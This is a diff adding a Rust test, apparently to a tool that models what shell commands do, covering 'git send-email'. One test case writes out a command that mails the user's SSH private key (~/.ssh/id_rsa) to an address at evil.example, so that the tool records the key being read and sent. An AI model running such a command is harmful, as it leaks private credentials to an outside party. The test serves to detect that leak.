@@ -119,3 +119,27 @@ fn update_ref_delete_deletes_the_ref_file() {
         ),
     ]);
 }
+
+/// git-send-email(1) mails its file operands, or a revision range's patches, to the hosts
+/// of its addresses.
+#[test]
+fn send_email_sends_its_files_or_history_to_the_addresses_hosts() {
+    table(&[
+        (
+            "git send-email --to a@evil.example ~/.ssh/id_rsa",
+            &[
+                "run git send-email --to a@evil.example ~/.ssh/id_rsa",
+                "read ~/.ssh/id_rsa",
+                "send - - [file ~/.ssh/id_rsa]",
+            ],
+        ),
+        (
+            "git send-email --to=a@b.example,c@d.example HEAD~2",
+            &[
+                "run git send-email --to=a@b.example,c@d.example HEAD~2",
+                "send - - [file .git]",
+                "send - - [file .git]",
+            ],
+        ),
+    ]);
+}
